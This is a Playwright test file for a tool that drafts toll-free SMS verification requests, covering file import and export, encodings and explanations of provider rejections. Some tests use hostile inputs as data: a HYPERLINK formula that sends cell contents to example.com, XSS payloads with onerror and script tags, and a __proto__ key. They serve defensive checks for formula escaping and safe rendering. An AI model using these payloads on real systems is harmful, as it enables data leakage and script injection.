// Files that are opened, saved, converted and pasted.

import { readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';

import { END, expect, FILE, open, paste, row, sample, sampleText, test } from './fixture';

async function saved(page: Page, format: string, provider?: string): Promise<{ name: string; bytes: Buffer }> {
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  const dialog = page.getByRole('dialog');
  if (provider !== undefined) await dialog.getByLabel('Provider').selectOption({ label: provider });
  await dialog.getByLabel(format, { exact: true }).check();
  const [download] = await Promise.all([page.waitForEvent('download'), dialog.getByRole('button', { name: 'Download' }).click()]);
  return { name: download.suggestedFilename(), bytes: readFileSync(await download.path()) };
}

const FORMATS = [
  ['JSON', 'json'],
  ['YAML', 'yaml'],
  ['Sheet (CSV)', 'csv'],
  ['Sheet (Excel)', 'xlsx'],
] as const;

for (const [label, ending] of FORMATS) {
  test(`a draft is saved as ${ending} and opened again`, async ({ page }, info) => {
    await open(page, sample('twilio/juniper-stage.json'));
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Juniper Stage Company, Inc.');
    const file = await saved(page, label);
    expect(file.name).toBe(`juniper-stage-company-inc.${ending}`);
    const path = info.outputPath(file.name);
    writeFileSync(path, file.bytes);
    await page.getByRole('button', { name: 'Clear', exact: true }).click();
    await page.getByRole('button', { name: 'Clear everything' }).click();
    await expect(page.getByLabel('Business name', { exact: true })).toHaveValue('');
    await open(page, path);
    await expect(page.getByLabel('Business name', { exact: true })).toHaveValue('Juniper Stage Company, Inc.');
    await expect(page.getByLabel('ZIP or postal code')).toHaveValue('87501');
    await expect(page.getByRole('textbox', { name: 'Opt-in images 1' })).toHaveValue(
      'https://www.juniperstage.org/images/seat-booking-consent.png',
    );
    await expect(page.locator('.score dd').first()).toHaveText('Nothing found');
  });
}

test('the page works before its end has arrived, and a workbook waits for it', async ({ browser }, info) => {
  const html = readFileSync(FILE, 'utf8');
  const end = html.indexOf(END);
  let sendEnd = () => {};
  const server = createServer((_, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.write(html.slice(0, end));
    sendEnd = () => response.end(html.slice(end));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const page = await browser.newPage();
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, { waitUntil: 'commit' });
  await open(page, sample('twilio/juniper-stage.json'));
  const name = page.getByLabel('Business name', { exact: true });
  await expect(name).toHaveValue('Juniper Stage Company, Inc.');
  const file = await saved(page, 'Sheet (Excel)');
  await name.fill('Another company');
  const path = info.outputPath(file.name);
  writeFileSync(path, file.bytes);
  await open(page, path);
  await page.waitForTimeout(500);
  await expect(name).toHaveValue('Another company');
  sendEnd();
  await expect(name).toHaveValue('Juniper Stage Company, Inc.');
  await page.close();
  server.close();
});

test('a formula is a text in Excel, and is named before it is written as CSV', async ({ page }) => {
  await paste(page, JSON.stringify({ BusinessName: '=HYPERLINK("https://example.com/?"&A2,"É")', BusinessContactPhone: '+15155550134' }));
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  const dialog = page.getByRole('dialog');
  await expect(dialog.getByRole('radio').nth(1)).toHaveAccessibleName('Sheet (Excel)');
  await dialog.getByLabel('Sheet (Excel)').check();
  await expect(dialog).not.toContainText('begins like a formula');
  await dialog.getByLabel('Sheet (CSV)').check();
  await expect(dialog).toContainText('Business name begins like a formula');
  await expect(dialog).toContainText('An apostrophe is written before a cell that begins like a formula');
  await expect(dialog).not.toContainText('phone number begins');
  await page.keyboard.press('Escape');
  const { bytes } = await saved(page, 'Sheet (CSV)');
  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  expect(bytes.toString()).toContain('"\'=HYPERLINK(""https://example.com/?""&A2,""É"")"');
  expect(bytes.toString()).toContain('"+15155550134"');
  await open(page, { name: 'saved.csv', mimeType: 'text/csv', buffer: bytes });
  await expect(page.getByLabel('Business name', { exact: true })).toHaveValue('=HYPERLINK("https://example.com/?"&A2,"É")');
});

test('lines of a portal are for the provider that was chosen, and their numbers are texts', async ({ page }) => {
  await page.locator('#provider').selectOption('telnyx');
  await page.getByRole('button', { name: 'Paste', exact: true }).click();
  await page.getByRole('dialog').getByRole('textbox').fill('Business Name: Colmado Rivera LLC\nCity: Caguas\nZip: 00745\nState: PR\nContact first name: Ana\nWebsite: https://www.colmadorivera.com\n');
  await page.getByRole('dialog').getByRole('button', { name: 'Open' }).click();
  await expect(page.getByRole('heading', { name: 'Which name is which field?' })).toBeVisible();
  await page.getByRole('button', { name: /^Apply/ }).click();
  await expect(page.locator('#provider')).toHaveValue('telnyx');
  await expect(page.getByLabel('ZIP or postal code', { exact: true })).toHaveValue('00745');
  await expect(page.getByLabel('City', { exact: true })).toHaveValue('Caguas');
  await paste(page, 'BusinessName: Colmado Rivera LLC\nBusinessPostalCode: 94103\nBusinessCountry: US\n');
  await expect(page.locator('.finding').filter({ hasText: 'must be text' })).toHaveCount(0);
});

test('JSON and YAML are the payload of the provider', async ({ page }) => {
  const original = JSON.parse(sampleText('twilio/juniper-stage.json'));
  await open(page, sample('twilio/juniper-stage.json'));
  expect(JSON.parse((await saved(page, 'JSON')).bytes.toString())).toEqual(original);
  expect((await saved(page, 'YAML')).bytes.toString()).toContain('BusinessName: Juniper Stage Company, Inc.');
});

test('a draft is saved as that of another provider, and what has no place there is named', async ({ page }) => {
  await open(page, sample('twilio/juniper-stage.json'));
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  await page.getByRole('dialog').getByLabel('Provider').selectOption({ label: 'Telnyx' });
  await expect(page.getByRole('dialog')).toContainText('has no place for');
  await page.keyboard.press('Escape');
  const file = await saved(page, 'JSON', 'Telnyx');
  expect(JSON.parse(file.bytes.toString())).toMatchObject({ businessName: 'Juniper Stage Company, Inc.', businessZip: '87501' });
});

test('choosing another provider takes the draft along', async ({ page }) => {
  await open(page, sample('twilio/juniper-stage.json'));
  await expect(page.getByLabel('Business name', { exact: true })).toHaveValue('Juniper Stage Company, Inc.');
  await page.locator('#provider').selectOption({ label: 'Telnyx' });
  await expect(page.getByRole('status').filter({ hasText: 'The draft is for Telnyx now' })).toBeVisible();
  await expect(page.locator('.notice li').filter({ hasText: /^Notification e-mail: / })).toBeVisible();
  await expect(page.locator('.field input').first()).toHaveValue('Juniper Stage Company, Inc.');
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(page.locator('#provider')).toHaveValue('twilio');
  await expect(page.getByLabel('Notification e-mail')).toHaveValue('office@juniperstage.org');
});

test('names in another spelling are known', async ({ page }) => {
  await open(page, sample('twilio/copper-basin-dental.yaml'));
  await expect(page.locator('#provider')).toHaveValue('twilio');
  await expect(page.getByLabel('Business name', { exact: true })).toHaveValue('Copper Basin Dental PLLC');
  await page.getByLabel('Business name', { exact: true }).fill('Copper Basin Dental LLC');
  const file = await saved(page, 'JSON');
  expect(JSON.parse(file.bytes.toString())).toMatchObject({ business_name: 'Copper Basin Dental LLC' });
});

test('notes and programs are opened as drafts', async ({ page }) => {
  await paste(page, 'For Twilio.\n\n**Business name:** Fern Cafe LLC\n**Volume:** 100\n**Opt-in type:** Web form\n');
  await expect(page.locator('#provider')).toHaveValue('twilio');
  await expect(page.getByLabel('Business name', { exact: true })).toHaveValue('Fern Cafe LLC');
  await paste(page, "const it = await client.messaging.v1.tollfreeVerifications.create({\n  businessName: 'Fern Inn LLC',\n  messageVolume: '100',\n  optInType: 'WEB_FORM',\n  tollfreePhoneNumberSid: number.sid,\n});\n");
  await expect(page.getByLabel('Business name', { exact: true })).toHaveValue('Fern Inn LLC');
  await expect(page.locator('.notice')).toContainText('tollfreePhoneNumberSid');
});

for (const name of [
  'aws/fieldstone-family-clinic.json',
  'aws/tidepool-swim-lessons.yaml',
  'bandwidth/heron-point-books.json',
  'harbor-dental.json',
  'infobip/alderbrook-dental.json',
  'pinnacle/windrow-playhouse.json',
  'plivo/ferncrest-pantry.json',
  'surge/saltgrass-veterinary.json',
  'telnyx/ambleside-animal-hospital.json',
  'vonage/redbud-hollow.json',
]) {
  test(`the form shows every text of ${name}`, async ({ page }) => {
    await open(page, sample(name));
    await expect(page.getByText(/^Opened\./)).toBeVisible();
    await expect(page.locator('.field').first()).toBeVisible();
    const shown = await page.evaluate(() => {
      const controls = [...document.querySelectorAll<HTMLInputElement>('form :is(input, textarea, select)')].map((it) => it.value);
      return [...controls, ...[...document.querySelectorAll('.chosen li, .field q')].map((it) => it.textContent ?? '')].join('\n');
    });
    // A list with a search shows its values in words.
    const inWords = (text: string) => (/^[A-Z]+(_[A-Z]+)*$/.test(text) ? text.replaceAll('_', ' ').toLowerCase() : text);
    for (const [, text = ''] of sampleText(name).matchAll(/^\s*"?[\w.]+"?: "([^"\\]{6,})",?$/gm)) {
      expect(shown.includes(text) ? shown : shown.toLowerCase()).toContain(shown.includes(text) ? text : inWords(text));
    }
  });
}

test('a file is dropped', async ({ page }) => {
  const data = await page.evaluateHandle((text) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([text], 'draft.json', { type: 'application/json' }));
    return transfer;
  }, sampleText('twilio/juniper-stage.json'));
  await page.dispatchEvent('body', 'dragover', { dataTransfer: data });
  await expect(page.getByText('Drop the file to open it')).toBeVisible();
  await page.dispatchEvent('body', 'drop', { dataTransfer: data });
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Juniper Stage Company, Inc.');
});

test('what cannot be read is said, and the draft stays', async ({ page }) => {
  await paste(page, sampleText('twilio/juniper-stage.json'));
  await open(page, { name: 'broken.json', mimeType: 'application/json', buffer: Buffer.from('{ "BusinessName": ') });
  await expect(page.locator('.notice')).toContainText(/Nothing could be opened|Opened/);
  await open(page, { name: 'picture.xlsx', mimeType: 'application/octet-stream', buffer: Buffer.from([1, 2, 3, 0, 255, 254]) });
  await expect(page.locator('.notice')).toContainText('Nothing could be opened');
  await open(page, { name: 'letter.docx', mimeType: '', buffer: Buffer.from('PK\x03\x04') });
  await expect(page.locator('.notice')).toContainText('copy its text, and paste it here');
  await expect(page.getByRole('button', { name: 'Save', exact: true })).toBeVisible();
  await page.getByRole('button', { name: 'Paste', exact: true }).click();
  await page.getByRole('dialog').getByRole('textbox').fill('We text customers about their jobs. They agree on the phone.');
  await page.getByRole('dialog').getByRole('button', { name: 'Open' }).click();
  await expect(page.getByRole('alert')).toContainText('No draft was found');
});

test('a rejection without a draft is explained for the provider that is chosen, and not on the example', async ({ page }) => {
  await page.reload();
  await page.getByRole('button', { name: 'Explain a rejection' }).click();
  const dialog = page.getByRole('dialog');
  await expect(dialog.getByRole('heading')).toHaveText('Explain a rejection');
  await dialog.getByLabel('Provider').selectOption('telnyx');
  await dialog.getByRole('textbox').fill('- Opt-in checkbox is pre-checked\n- purple elephants');
  await dialog.getByRole('button', { name: 'Explain', exact: true }).click();
  await expect(dialog.locator('.finding').filter({ hasText: 'purple elephants' })).toHaveCount(1);
  await expect(dialog).toContainText('Pre-selected opt-in checkbox is not allowed');
  await expect(dialog.getByRole('button', { name: /^Go to/ })).toHaveCount(0);
  await page.keyboard.press('Escape');
});

test('an assistant is asked for the codes of a rejection in free words, and they explain it', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByRole('button', { name: 'Explain a rejection' }).click();
  const dialog = page.getByRole('dialog');
  const mail = dialog.getByRole('textbox', { name: /^Paste what came back/ });
  await mail.fill('nobody here can tell what the squirrels agreed to');
  await dialog.getByRole('button', { name: 'Explain', exact: true }).click();
  const copy = dialog.getByRole('button', { name: 'Copy for your assistant' });
  await copy.click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toMatch(/^- 30513 /m);
  expect(copied).toMatch(/^> nobody here can tell what the squirrels agreed to$/m);
  await dialog.getByRole('textbox', { name: 'Paste what the assistant answered' }).fill('30513');
  await dialog.getByRole('button', { name: 'Use the answer' }).click();
  await expect(dialog.locator('.finding').filter({ hasText: 'The reviewer wrote: “nobody here can tell what the squirrels agreed to” An assistant reads it as Twilio 30513: Opt-in not sufficient: language unclear.' })).not.toHaveCount(0);
  await expect(dialog.locator('.finding').filter({ hasText: 'The answer says' })).toHaveCount(0);
  // The words of the provider stay, also when the dialog opens again.
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Explain a rejection' }).click();
  await expect(mail).toHaveValue('nobody here can tell what the squirrels agreed to');
  await expect(copy).toHaveCount(1);
  await dialog.getByRole('button', { name: 'Explain', exact: true }).click();
  await expect(dialog.locator('.finding').filter({ hasText: '30513' })).toHaveCount(0);
  // Assistants number their lines, and the one with the provider gives no reason.
  await dialog.getByRole('textbox', { name: 'Paste what the assistant answered' }).fill('1. The sample message does not name the business.\n2. You have 7 days to edit it.\n3. Twilio\n4. 30513');
  await dialog.getByRole('button', { name: 'Use the answer' }).click();
  await expect(dialog.locator('.finding').filter({ hasText: '30513' })).toHaveCount(1);
  await expect(dialog.locator('.finding').filter({ hasText: /“(3\. )?Twilio/ })).toHaveCount(0);
});

test('a rejection names its provider, and is explained again in the draft that is opened next', async ({ page }) => {
  await page.reload();
  await page.getByRole('button', { name: 'Explain a rejection' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('textbox').fill('Your request was rejected by Telnyx:\n- Sample message must include the brand name\n- Opt-in checkbox is pre-checked');
  await dialog.getByRole('button', { name: 'Explain', exact: true }).click();
  await expect(dialog.getByLabel('Provider')).toHaveValue('telnyx');
  await expect(dialog.locator('.finding').first()).toContainText('Sample message must include the brand name');
  await expect(dialog).not.toContainText(/finds? nothing in this draft|tollproof look/);
  await page.keyboard.press('Escape');
  await paste(page, 'Business name: Fern Cafe LLC\nWebsite: https://www.ferncafe.com\nZip: 00745\nEIN: 66-0712945\nUse case: Marketing\nSample message: Shoes are 20% off. Reply STOP to opt out.\nOpt-in description: Guests tick the box, which comes ticked.');
  await expect(page.locator('#provider')).toHaveValue('telnyx');
  await expect(page.getByLabel('ZIP or postal code')).toHaveValue('00745');
  // Notes that name no provider keep what only the chosen one asks for.
  await expect(page.getByLabel('Registration number')).toHaveValue('66-0712945');
  // An answer does not say again what the finding beside it says.
  const answer = row(page, 'Sample message').locator('.advice');
  await expect(answer).toHaveText('Answer The answer says: “Sample message must include the brand name”Done');
  await expect(row(page, 'Sample message').locator('.finding.error')).toContainText('does not say who is writing');
});

test('pasted lines keep the phone number at a provider that asks for its identifier', async ({ page }) => {
  await paste(page, 'Business name: Fern Cafe LLC\nToll-free number: 844-773-0196\nUse case: Marketing\nSample message: Shoes are 20% off. Reply STOP to opt out.\nOpt-in description: Guests tick the box.');
  await expect(page.locator('#provider')).toHaveValue('twilio');
  await expect(page.getByLabel('Toll-free number')).toHaveValue('844-773-0196');
  await page.getByRole('button', { name: 'I choose the number on Twilio’s website' }).click();
  await expect(row(page, 'Toll-free number').locator('.finding.error')).toHaveCount(0);
});

test('a sheet in Windows-1252 or UTF-16 has all of its letters, and damaged text is not opened', async ({ page }) => {
  const text = 'BusinessName;BusinessCity\nÉtoile Inc.;Lévis\n';
  const files = { 'windows.csv': Buffer.from(text, 'latin1'), 'unicode.csv': Buffer.from(`\ufeff${text}`, 'utf16le') };
  for (const [name, buffer] of Object.entries(files)) {
    await open(page, { name, mimeType: 'text/csv', buffer });
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Étoile Inc.');
    await expect(page.getByLabel('City', { exact: true })).toHaveValue('Lévis');
    await page.getByRole('button', { name: 'Clear', exact: true }).click();
    await page.getByRole('button', { name: 'Clear everything' }).click();
  }
  const mixed = Buffer.concat([Buffer.from('BusinessName\né'), Buffer.from([0xe9, 0x0a])]);
  await open(page, { name: 'mixed.csv', mimeType: 'text/csv', buffer: mixed });
  await expect(page.locator('.notice')).toContainText('Nothing could be opened');
  await expect(page.locator('.notice')).toContainText(/UTF-8.*\. Save/);
  await expect(page.getByLabel('Business name', { exact: true })).toHaveValue('');
});

test('texts of a file are shown as texts', async ({ page }) => {
  await paste(page, JSON.stringify({ BusinessName: '<img src=x onerror=alert(1)>', __proto__x: 1, UseCaseSummary: '</textarea><script>alert(1)</script>' }));
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('<img src=x onerror=alert(1)>');
  expect(await page.locator('img, form script').count()).toBe(0);
});

test('a rejection is explained at the fields that it is about', async ({ page }) => {
  await open(page, sample('twilio/northgate-storage.json'));
  await page.getByRole('button', { name: 'Explain a rejection' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('textbox').fill('Your submission was rejected: opt-out language missing in the sample message.');
  await dialog.getByRole('button', { name: 'Explain' }).click();
  await expect(dialog.locator('.finding').first()).toBeVisible();
  await dialog.getByRole('button', { name: 'Go to “Sample message”' }).first().click();
  await expect(dialog).toBeHidden();
  await expect(page.getByLabel('Sample message', { exact: true })).toBeFocused();
  await expect(row(page, 'Sample message').locator('.finding.advice').first()).toContainText('Answer');
});

test('an explanation is judged again when the draft changes', async ({ page }) => {
  await open(page, sample('twilio/northgate-storage.json'));
  await page.getByRole('button', { name: 'Explain a rejection' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('textbox').fill('Business email must use an official domain');
  await dialog.getByRole('button', { name: 'Explain', exact: true }).click();
  await page.keyboard.press('Escape');
  const mail = row(page, 'Contact, e-mail');
  // The error beside it says the rest.
  await expect(mail.locator('.advice')).toHaveText('Answer The answer says: “Business email must use an official domain”Done');
  await page.getByLabel('Contact, e-mail', { exact: true }).fill('jolene@northgatestoragepartners.com');
  await expect(mail.locator('.advice')).toContainText('Repaired: nothing is found for it now.');
  await expect(mail.locator('.advice')).not.toContainText('find nothing in this draft');
  // What to do about the answer is below the fields.
  await expect(page.locator('#draft > .findings')).toContainText('fix what the answer names');
});

test('each reason of a rejection comes to an end, and what is left is counted', async ({ page }) => {
  const draft = JSON.parse(sampleText('telnyx/ambleside-animal-hospital.json'));
  await paste(page, JSON.stringify({ ...draft, businessContactEmail: 'ambleside@gmail.com' }));
  await page.getByRole('button', { name: 'Explain a rejection' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('textbox').first().fill('- Business email must use an official domain\n- The moon is full');
  await dialog.getByRole('button', { name: 'Explain', exact: true }).click();
  await expect(dialog.getByRole('status')).toHaveText('0 of 2 reasons settled');
  await page.keyboard.press('Escape');
  const mail = page.getByLabel('Contact, e-mail', { exact: true });
  await mail.fill(draft.businessContactEmail);
  const score = page.locator('.score');
  await expect(score.getByRole('button', { name: '1 of 2 reasons settled' })).toBeVisible();
  await expect(row(page, 'Contact, e-mail').locator('.advice')).toContainText('“Business email must use an official domain”✓ Repaired: nothing is found for it now.');
  // What no rule finds is for a person, who is led there and ticks it off.
  await expect(score.getByRole('heading')).toHaveText('1 reason of the rejection is open');
  await score.getByRole('button', { name: 'Go to the next' }).click();
  const tick = page.locator('#whole-row').getByRole('checkbox', { name: /^Done: .*The moon is full/ });
  await expect(tick).toBeFocused();
  await tick.check();
  await score.getByRole('button', { name: '2 of 2 reasons settled' }).click();
  await expect(dialog.getByRole('checkbox', { name: /The moon is full/ })).toBeChecked();
  await page.keyboard.press('Escape');
  await expect(page.locator('[data-waits=reason]')).toHaveCount(0);
  // What is done stays so in another version of the draft, and after all was cleared and is back.
  await paste(page, JSON.stringify(draft));
  await expect(score.getByRole('button', { name: '2 of 2 reasons settled' })).toBeVisible();
  await page.getByRole('button', { name: 'Clear', exact: true }).click();
  await dialog.getByRole('button', { name: 'Clear everything' }).click();
  await expect(score).toHaveCount(0);
  await page.locator('.notice').getByRole('button', { name: 'Undo' }).click();
  await mail.fill('ambleside@gmail.com');
  await expect(score.getByRole('button', { name: '1 of 2 reasons settled' })).toBeVisible();
  await expect(tick).toBeChecked();
});

test('a rejected request is changed, and not begun anew; what is opened next keeps the answer', async ({ page }) => {
  await paste(page, sampleText('telnyx/ambleside-animal-hospital.json'));
  await page.getByRole('button', { name: 'Explain a rejection' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('textbox').fill('Your request was rejected by Telnyx:\n- Sample message must include the brand name\nEdit the request within 7 days.');
  await dialog.getByRole('button', { name: 'Explain', exact: true }).click();
  await expect(dialog.locator('#reasons .finding').first()).toContainText('7 days');
  await expect(page.locator('.score')).toContainText('7 days');
  await expect(dialog).toContainText('Open the rejected request at Telnyx');
  await dialog.getByRole('button', { name: 'I change the rejected request: check the draft as a change' }).click();
  await expect(dialog).not.toContainText('Open the rejected request');
  await page.keyboard.press('Escape');
  await expect(page.getByLabel('Request', { exact: true })).toHaveValue('update-request');
  await paste(page, sampleText('telnyx/ambleside-animal-hospital.json'));
  await expect(row(page, 'Sample message').locator('.advice')).toContainText('must include the brand name');
});

test('an answer that is pasted as a draft is explained', async ({ page }) => {
  await page.getByRole('button', { name: 'Paste', exact: true }).click();
  await page.getByRole('dialog').getByRole('textbox').fill(sampleText('record-rejected.json'));
  await page.getByRole('dialog').getByRole('button', { name: 'Open' }).click();
  await expect(page.getByRole('dialog', { name: /^Explain a rejection/ }).getByRole('textbox')).toHaveValue(/rejected/i);
});
